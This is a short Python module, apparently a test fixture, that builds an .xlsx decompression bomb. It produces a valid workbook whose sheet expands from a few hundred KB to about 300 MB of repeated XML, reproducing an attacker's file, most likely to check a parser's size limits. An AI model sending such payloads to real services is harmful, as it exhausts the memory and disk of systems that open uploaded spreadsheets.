"""An .xlsx zip bomb as the attacker built it: a valid workbook whose sheet
is 300 MB of repeated XML that deflates to a few hundred KB."""

from __future__ import annotations

import functools
import io
import zipfile

from openpyxl import Workbook

ROW = b'<row><c t="inlineStr"><is><t>X\xc3\xa3 Ia Kha</t></is></c></row>'


@functools.cache
def xlsx_bomb(unpacked_mb: int = 300) -> bytes:
    book = io.BytesIO()
    Workbook().save(book)
    out = io.BytesIO()
    with zipfile.ZipFile(book) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                target.writestr(info, source.read(info))
                continue
            chunk = ROW * (1024 * 1024 // len(ROW))
            with target.open(info.filename, "w", force_zip64=True) as sheet:
                sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet '
                            b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
                for _ in range(unpacked_mb):
                    sheet.write(chunk)
                sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()
